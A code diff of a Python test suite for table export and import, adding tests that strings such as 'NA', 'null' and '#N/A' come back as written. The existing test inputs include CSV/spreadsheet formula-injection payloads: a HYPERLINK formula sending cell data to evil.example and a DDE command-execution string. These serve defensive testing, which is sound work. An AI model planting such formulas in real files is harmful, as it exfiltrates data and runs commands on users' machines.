@@ -31,7 +31,8 @@ GENERATED = ("enterprises", "capabilities", "demands", "trade", "projects", "doc
 HS = ("72", "7208", "720851", "8701", "870410", "870899")
 REGIONS = ("BY-MI", "BY-HM", "RU-LIP", "RU-MOW", "RU-TA")
 RISKY = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1",
-         "-2+3", "@SUM(A1:A2)", "'quoted", "''twice", "=1;2", 'say "hi", then go')  # fmt: skip
+         "-2+3", "@SUM(A1:A2)", "'quoted", "''twice", "=1;2", 'say "hi", then go',
+         "NA", "None", "null", "#N/A", "#REF!", "nan")  # fmt: skip
 
 ALPHABET = st.characters(
     codec="utf-8", exclude_categories=("Cs", "Cc", "Zl", "Zp"), include_characters="\n\r\t"
@@ -204,6 +205,18 @@ def test_every_kind_round_trips(
         target.dispose()
 
     check()
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_text_a_reader_could_take_for_missing_stays_text(fmt: str, tmp_path: Path) -> None:
+    """pandas reads "NA", "None" or "null" as missing by default, and openpyxl writes "#N/A"
+    as an error cell: a source or a name spelled so must come back as written."""
+    words = ["NA", "None", "null", "nan", "N/A", "#N/A", "#REF!", "#DIV/0!"]
+    frame = pd.DataFrame({"id": [*words, "empty"], "source": [*words, None]}, dtype=object)
+    write_table(frame, tmp_path / f"t.{fmt}", fmt)
+    back = read_table(tmp_path / f"t.{fmt}").frame.set_index("id")["source"]
+    assert list(back[words]) == words
+    assert pd.isna(back["empty"])
 
 
 @pytest.mark.slow
